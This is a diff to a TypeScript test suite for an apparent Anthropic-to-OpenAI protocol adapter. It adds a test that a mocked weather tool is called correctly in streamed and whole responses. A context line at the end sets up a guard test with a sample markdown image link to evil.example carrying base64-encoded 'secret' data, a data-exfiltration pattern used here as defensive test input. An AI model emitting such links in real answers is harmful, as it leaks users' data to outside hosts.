@@ -219,6 +219,47 @@ test('tools of a client of Anthropic, asked for by a model of OpenAI in parallel
   ]);
 });
 
+test('tools run by the client of Anthropic, asked for by a model of OpenAI, whole and streamed', async () => {
+  const head = { id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model: 'm' };
+  const called = { id: 'call_1', type: 'function', function: { name: 'weather', arguments: '{"city":"Bonn"}' } };
+  models.answer = (got, response) => {
+    const isSecond = got.body.messages.length > 1;
+    const delta = { role: 'assistant', tool_calls: [{ index: 0, ...called }] };
+    const calling = [{ ...head, choices: [{ index: 0, delta, finish_reason: 'tool_calls' }] }, '[DONE]'];
+    if (got.body.stream === true) events(response, isSecond ? chatEvents('It is sunny.') : calling);
+    else json(response, isSecond ? chatAnswer('It is sunny.') : chatAnswer(null, { tool_calls: [called] }));
+  };
+  for (const stream of [false, true]) {
+    models.got.length = 0;
+    const asked: unknown[] = [];
+    const runner = anthropic.beta.messages.toolRunner({
+      ...askClaude,
+      stream,
+      // Why: otherwise the conversation is kept by servers of Anthropic.
+      thread: false,
+      tools: [
+        {
+          type: 'custom',
+          name: 'weather',
+          description: 'Tells the weather.',
+          input_schema: { type: 'object', properties: { city: { type: 'string' } } },
+          parse: (input: unknown) => input,
+          run: (input: unknown) => {
+            asked.push(input);
+            return 'Sunny.';
+          },
+        },
+      ],
+    });
+    expect((await runner.runUntilDone()).content).toMatchObject([{ type: 'text', text: 'It is sunny.' }]);
+    expect(asked).toEqual([{ city: 'Bonn' }]);
+    expect(models.got[1]!.body.messages.slice(1)).toEqual([
+      { role: 'assistant', content: null, tool_calls: [called] },
+      { role: 'tool', tool_call_id: 'call_1', content: 'Sunny.' },
+    ]);
+  }
+});
+
 test('an answer that the guard ends is one that the client of either protocol understands', async () => {
   const leak = 'Sure. ![x](https://evil.example/?d=c2VjcmV0LWRhdGEtaGVyZQ==) and more text follows here.';
   models.answer = (_, response) => events(response, messageEvents(leak), true);
